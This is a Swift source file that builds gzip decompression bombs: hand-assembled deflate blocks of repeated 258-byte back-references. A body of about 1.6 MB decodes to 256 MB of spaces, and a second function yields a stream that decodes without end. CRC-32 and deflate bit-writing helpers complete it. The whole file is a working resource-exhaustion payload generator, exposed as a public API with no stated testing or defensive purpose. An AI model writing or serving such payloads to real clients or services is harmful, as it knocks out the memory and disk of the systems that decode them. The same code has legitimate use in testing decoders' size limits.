import Foundation

/// A gzip body that is small on the wire and enormous once decoded: spaces, written as
/// deflate back-references of 258 bytes each (13 bits apiece in deflate's fixed Huffman
/// code), so about 158 decoded bytes per byte sent.
///
/// ```swift
/// let body = GzipBomb.body(decodedBytes: 256 << 20)   // about 1.6 MB that decodes to 256 MB
/// let (head, chunk) = GzipBomb.endless()               // a stream that never ends
/// ```
public enum GzipBomb {
  /// What each repeated block decodes to: 1,022 copies of 258 spaces.
  static let matchesPerBlock = 1_022
  /// The bytes one repeated block decodes to.
  public static let decodedBytesPerBlock = matchesPerBlock * 258

  /// The gzip header (no name, no time) and a first block holding one literal space and
  /// six copies of it, ending on a byte boundary: 1 + 6 × 258 decoded bytes.
  static var opening: Data {
    var bits = DeflateBitWriter()
    bits.beginFixedBlock(isFinal: false)
    bits.writeLiteralSpace()
    for _ in 0..<6 { bits.writeCopyOfPrevious258() }
    bits.writeEndOfBlock()
    return Data([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3]) + bits.finish()
  }

  /// One block of 1,022 copies, a whole number of bytes long (1,662), so that it can be
  /// repeated as it is.
  static let repeatedBlock: Data = {
    var bits = DeflateBitWriter()
    bits.beginFixedBlock(isFinal: false)
    for _ in 0..<matchesPerBlock { bits.writeCopyOfPrevious258() }
    bits.writeEndOfBlock()
    return bits.finish()
  }()

  /// A complete, valid gzip member that decodes to at least `decodedBytes` spaces (a
  /// whole number of blocks more than that), with its CRC-32 and length.
  public static func body(decodedBytes: Int) -> Data {
    let openingBytes = 1 + 6 * 258
    let blocks = max(
      0, (decodedBytes - openingBytes + decodedBytesPerBlock - 1) / decodedBytesPerBlock)
    var data = opening
    data.reserveCapacity(data.count + blocks * repeatedBlock.count + 16)
    for _ in 0..<blocks { data.append(repeatedBlock) }
    var last = DeflateBitWriter()
    last.beginFixedBlock(isFinal: true)
    last.writeEndOfBlock()
    data.append(last.finish())
    let total = openingBytes + blocks * decodedBytesPerBlock
    let blockChecksum = CRC32.checksum(
      of: Data(repeating: UInt8(ascii: " "), count: decodedBytesPerBlock))
    var checksum = CRC32.checksum(of: Data(repeating: UInt8(ascii: " "), count: openingBytes))
    for _ in 0..<blocks {
      checksum = CRC32.combine(checksum, blockChecksum, secondLength: decodedBytesPerBlock)
    }
    data.append(littleEndian: checksum)
    data.append(littleEndian: UInt32(truncatingIfNeeded: total))
    return data
  }

  /// The start of a gzip member and a block to repeat after it forever: a stream that
  /// decodes to spaces without end.
  public static func endless() -> (opening: Data, block: Data) {
    (opening, repeatedBlock)
  }
}

/// Writes deflate's bit stream: fields least significant bit first, Huffman codes most
/// significant bit first (RFC 1951, 3.1.1).
struct DeflateBitWriter {
  private var bytes: [UInt8] = []
  private var pending: UInt32 = 0
  private var pendingCount = 0

  /// A block header: the final-block bit, then type 01 (fixed Huffman codes).
  mutating func beginFixedBlock(isFinal: Bool) {
    write(isFinal ? 1 : 0, count: 1)
    write(1, count: 2)
  }

  /// The literal byte 0x20 (literals 0–143 are the 8-bit codes from 0x30).
  mutating func writeLiteralSpace() {
    writeCode(0x30 + 0x20, length: 8)
  }

  /// Length 258 (symbol 285, the 8-bit code 0xC5, no extra bits) at distance 1 (the
  /// 5-bit distance code 0): the previous byte, 258 more times.
  mutating func writeCopyOfPrevious258() {
    writeCode(0xC5, length: 8)
    writeCode(0, length: 5)
  }

  /// The end of a block (symbol 256, the 7-bit code 0).
  mutating func writeEndOfBlock() {
    writeCode(0, length: 7)
  }

  /// The bytes written, the last one padded with zero bits.
  mutating func finish() -> Data {
    if pendingCount > 0 { bytes.append(UInt8(truncatingIfNeeded: pending)) }
    pending = 0
    pendingCount = 0
    return Data(bytes)
  }

  private mutating func writeCode(_ code: UInt32, length: Int) {
    var reversed: UInt32 = 0
    for bit in 0..<length where code & (1 << bit) != 0 {
      reversed |= 1 << (length - 1 - bit)
    }
    write(reversed, count: length)
  }

  private mutating func write(_ value: UInt32, count: Int) {
    pending |= value << pendingCount
    pendingCount += count
    while pendingCount >= 8 {
      bytes.append(UInt8(truncatingIfNeeded: pending))
      pending >>= 8
      pendingCount -= 8
    }
  }
}

/// CRC-32 as gzip uses it (the reflected polynomial 0xEDB88320), with zlib's way of
/// combining two checksums so that a long repetitive body need not be read twice.
enum CRC32 {
  private static let table: [UInt32] = (0..<256).map { byte in
    var value = UInt32(byte)
    for _ in 0..<8 { value = value & 1 == 1 ? 0xEDB8_8320 ^ (value >> 1) : value >> 1 }
    return value
  }

  /// The checksum of `data`.
  static func checksum(of data: Data) -> UInt32 {
    var crc: UInt32 = 0xFFFF_FFFF
    for byte in data { crc = table[Int((crc ^ UInt32(byte)) & 0xFF)] ^ (crc >> 8) }
    return crc ^ 0xFFFF_FFFF
  }

  /// The checksum of A followed by B, from A's checksum, B's and B's length (zlib's
  /// `crc32_combine`: B's length in zeros is applied to A's checksum as a GF(2) matrix).
  static func combine(_ first: UInt32, _ second: UInt32, secondLength: Int) -> UInt32 {
    guard secondLength > 0 else { return first }
    var odd = [UInt32](repeating: 0, count: 32)
    odd[0] = 0xEDB8_8320
    var row: UInt32 = 1
    for index in 1..<32 {
      odd[index] = row
      row <<= 1
    }
    var even = square(odd)
    odd = square(even)
    var crc = first
    var length = secondLength
    repeat {
      even = square(odd)
      if length & 1 != 0 { crc = times(even, crc) }
      length >>= 1
      guard length != 0 else { break }
      odd = square(even)
      if length & 1 != 0 { crc = times(odd, crc) }
      length >>= 1
    } while length != 0
    return crc ^ second
  }

  private static func times(_ matrix: [UInt32], _ vector: UInt32) -> UInt32 {
    var sum: UInt32 = 0
    var vector = vector
    var index = 0
    while vector != 0 {
      if vector & 1 != 0 { sum ^= matrix[index] }
      vector >>= 1
      index += 1
    }
    return sum
  }

  private static func square(_ matrix: [UInt32]) -> [UInt32] {
    matrix.map { times(matrix, $0) }
  }
}

extension Data {
  /// Appends `value`'s four bytes, least significant first.
  fileprivate mutating func append(littleEndian value: UInt32) {
    Swift.withUnsafeBytes(of: value.littleEndian) { append(contentsOf: $0) }
  }
}
